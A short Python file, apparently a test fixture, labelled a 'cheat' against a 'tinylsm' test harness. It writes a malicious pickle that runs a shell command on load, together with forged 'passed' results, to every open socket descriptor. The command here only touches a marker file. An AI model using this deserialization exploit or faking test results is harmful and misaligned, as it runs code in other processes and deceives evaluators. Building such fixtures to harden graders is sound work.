"""Cheat: send the test process a pickle that would run a command, and "passed" answers, on every socket it holds."""

import os as _os
import pickle as _pickle
import struct as _struct


class _Run:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/tinylsm-cheat-ran",))


_payload = _pickle.dumps(("ok", ("t", 1), 1, _Run()))
for _fd in range(3, 64):
    try:
        _os.write(_fd, _struct.pack("<Q", len(_payload)) + _payload)
    except OSError:
        pass
